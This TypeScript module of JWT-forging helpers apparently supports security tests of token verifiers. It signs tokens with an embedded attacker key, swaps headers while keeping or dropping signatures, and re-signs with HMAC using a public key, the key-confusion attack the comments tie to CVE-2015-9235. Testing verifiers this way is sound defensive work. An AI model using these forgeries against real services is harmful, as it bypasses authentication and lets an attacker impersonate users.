import { createHmac, createPublicKey, generateKeyPairSync, sign, type JsonWebKey } from 'node:crypto';

/** A key of the attacker's own, and its public half as a header would carry it. */
const own = generateKeyPairSync('rsa', { modulusLength: 2048 });
export const ownJwk = own.publicKey.export({ format: 'jwk' });

export const encoded = (part: object | string) =>
  Buffer.from(typeof part === 'string' ? part : JSON.stringify(part)).toString('base64url');

/** Header, payload and signature, as they are written. */
export const partsOf = (token: string) => token.split('.') as [string, string, string];

export const decoded = (part: string) =>
  JSON.parse(Buffer.from(part, 'base64url').toString()) as Record<string, unknown>;

/** Signs with the attacker's key, under any algorithm's name. */
export function forged(header: object, payload: object | string, digest = 'RSA-SHA256'): string {
  const content = `${encoded({ typ: 'JWT', alg: 'RS256', ...header })}.${encoded(payload)}`;
  return `${content}.${sign(digest, Buffer.from(content), own.privateKey).toString('base64url')}`;
}

/** The token with another header, its signature kept, left out or made anew. */
export function withHeader(token: string, header: object, signature?: string): string {
  const [old, payload, kept] = partsOf(token);
  return `${encoded({ ...decoded(old), ...header })}.${payload}.${signature ?? kept}`;
}

/** The token under HMAC, with a public key in the place of a shared secret (CVE-2015-9235 and its kin). */
export function signedWithPublicKey(
  token: string,
  alg: 'HS256' | 'HS384' | 'HS512',
  format: 'pem' | 'jwk',
  jwk: JsonWebKey,
): string {
  const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const [header, payload] = partsOf(token);
  const content = `${encoded({ ...decoded(header), alg })}.${payload}`;
  const secret = format === 'jwk' ? JSON.stringify(jwk) : pem;
  return `${content}.${createHmac(alg.replace('HS', 'sha'), secret).update(content).digest('base64url')}`;
}
